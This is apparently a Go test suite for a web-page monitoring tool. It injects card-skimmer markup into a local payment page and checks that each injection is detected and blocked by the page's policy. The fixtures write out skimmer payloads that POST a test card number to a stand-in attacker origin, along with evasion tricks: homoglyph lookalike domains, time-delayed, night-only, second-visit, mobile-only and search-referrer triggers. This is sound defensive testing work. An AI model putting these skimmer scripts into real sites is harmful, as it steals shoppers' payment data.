package app

import (
	"fmt"
	"net/http"
	"slices"
	"strings"
	"testing"

	"clearwell/internal/watch"
	"clearwell/internal/watch/browser"
	"clearwell/internal/watch/manifest"
	"clearwell/internal/watch/visit"
)

// shape is a skimmer that somebody got into the page as markup: what must be said
// of it, and where its loot would arrive.
type shape struct {
	name   string // also the path at which its loot arrives
	markup string // EVIL is the attacker's origin, LOOK one that looks like ours
	sees   manifest.Subject
	named  string
}

// inline is a script in the page that sends loot under a condition.
func inline(name, condition string) shape {
	script := `<script>if (` + condition + `) fetch("EVIL/` + name + `?n=4242424242424242", {mode: "no-cors", method: "POST"})</script>`
	return shape{name, script, manifest.InlineScript, ""}
}

// shapes are those that want not to be seen by somebody who looks once, by day,
// at a desk.
func shapes() []shape {
	return []shape{
		{"homoglyph", `<script src="LOOK/homoglyph"></script>`, manifest.Script, "xn--"},
		{"script", `<script src="EVIL/script"></script>`, manifest.Script, "/script"},
		{"pixel", `<img src="EVIL/pixel?n=4242424242424242" alt="">`, manifest.Picture, "/pixel"},
		{"style", `<link rel="stylesheet" href="EVIL/style">`, manifest.Style, "/style"},
		{"frame", `<iframe src="EVIL/frame"></iframe>`, manifest.Frame, "/frame"},
		inline("bomb", `Date.now() > WHEN`),
		inline("night", `new Date().getHours() >= FROM || new Date().getHours() < 5`),
		inline("second", `localStorage.getItem("been") || (localStorage.setItem("been", "1"), false)`),
		inline("phone", `/Android|iPhone/.test(navigator.userAgent)`),
	}
}

// armed writes a shape's markup: to act now, or when nobody looks.
func (s shape) armed(evil string, now bool) string {
	when, from := "4102444800000", "22" // in 2100
	if now {
		when, from = "0", "0"
	}
	lookalike := strings.Replace(evil, "evil.localhost", "p\u0430y.shared.localhost", 1) // a Cyrillic a
	return strings.NewReplacer("EVIL", evil, "LOOK", lookalike, "WHEN", when, "FROM", from).Replace(s.markup)
}

// together puts all shapes into one card page.
func together(evil string, now bool) string {
	var all strings.Builder
	for _, s := range shapes() {
		all.WriteString(s.armed(evil, now))
	}
	return all.String()
}

// Each shape is an alarm, alone and among the others, also while it does nothing
// because its hour has not come; and with the page's own policy nothing of it
// gets out, though all of it would without.
func TestEverySkimmerIsSeenAndStopped(t *testing.T) {
	l := watchFrom(t)
	english, plain := l.in("en"), []watch.View{l.plain()}
	for _, s := range shapes() {
		l.meddle(inBody(s.armed(l.evil, false))(l.evil))
		report, _ := english.Look(t.Context(), plain)
		if !seen(report, "plain", replay{sees: s.sees, named: s.named}) {
			t.Errorf("%s: it is not seen:\n%s", s.name, report.Words(l.words).Text)
		}
	}
	at := slices.IndexFunc(browser.Faces(), func(f browser.Face) bool { return f.Name == "android" })
	telephone := []watch.View{l.chromium(browser.Faces()[at])}
	l.meddle(inBody(together(l.evil, true))(l.evil))
	report, _ := english.Look(t.Context(), telephone)
	for _, s := range shapes() {
		if !seen(report, "browser", replay{sees: s.sees, named: s.named}) {
			t.Errorf("%s: the browser does not see it:\n%s", s.name, report.Words(l.words).Text)
		}
		if l.drop.has(s.name) {
			t.Errorf("%s: its loot gets out", s.name)
		}
	}
	l.meddle(func(r *http.Request, header http.Header, body string) string {
		return inBody(together(l.evil, true))(l.evil)(r, header, unprotected("", header, body))
	})
	english.Look(t.Context(), telephone)
	for _, s := range shapes() {
		if !l.drop.await(s.name) {
			t.Errorf("%s: nothing arrives without the policy, so that this proves nothing: %v", s.name, l.drop.came)
		}
	}
}

// A page that is changed for who comes back, by whoever owns the way, is seen in
// one run, for each view opens it twice.
func TestASkimmerForTheSecondVisitIsSeen(t *testing.T) {
	l := watchFrom(t)
	visits, change := map[string]int{}, inBody(`<script src="EVIL/second"></script>`)(l.evil)
	l.meddle(func(r *http.Request, header http.Header, body string) string {
		if key := r.URL.Path + r.Header.Get("Cookie"); r.Method == http.MethodGet && strings.Contains(r.URL.Path, "/pay/quo") {
			if visits[key]++; visits[key] == 2 {
				return change(r, header, body)
			}
		}
		return body
	})
	english, plain := l.in("en"), []watch.View{l.plain()}
	if report, _ := english.Look(t.Context(), plain); report.Verdict() != watch.Changed {
		t.Errorf("it is %s; asked %v", report.Verdict(), visits)
	}
	visits = map[string]int{}
	once := visit.Errand{Start: english.Manifest.Start, Language: "en", Fields: english.Fields}
	sights, err := plain[0].Walker.Walk(t.Context(), once)
	l.must(err)
	for _, s := range sights {
		if strings.Contains(string(s.HTML), "/second") {
			t.Error("who comes once meets it too: this proves nothing")
		}
	}
}

// A page that is changed for who follows a link of a search engine is seen in as
// many runs as there are roads, for the prober comes by each once before it comes
// by one again; a browser says where it comes from too.
func TestASkimmerForOneReferrerIsSeen(t *testing.T) {
	l := watchFrom(t)
	searched, change := false, inBody(`<script src="EVIL/searched"></script>`)(l.evil)
	l.meddle(func(r *http.Request, header http.Header, body string) string {
		if r.Method == http.MethodGet && strings.HasSuffix(r.URL.Path, "/eastwell/") {
			searched = strings.Contains(r.Referer(), "google") || strings.Contains(r.Referer(), "search.localhost")
		}
		if searched {
			return change(r, header, body)
		}
		return body
	})
	english, deck, found := l.in("en"), watch.NewDeck(visit.Roads()), 0
	for range visit.Roads() {
		view := l.plain()
		view.From = deck.Draw()
		report, _ := english.Look(t.Context(), []watch.View{view})
		if caught := report.Verdict() == watch.Changed; caught != strings.Contains(view.From, "google") {
			t.Errorf("from %q: %s", view.From, report.Verdict())
		} else if caught {
			found++
		}
	}
	view := l.chromium(browser.Face{})
	view.From = "http://search.localhost/"
	if report, _ := english.Look(t.Context(), []watch.View{view}); report.Verdict() != watch.Changed || found != 1 {
		t.Errorf("in a browser it is %s; found %d times", fmt.Sprint(report.Verdict()), found)
	}
}
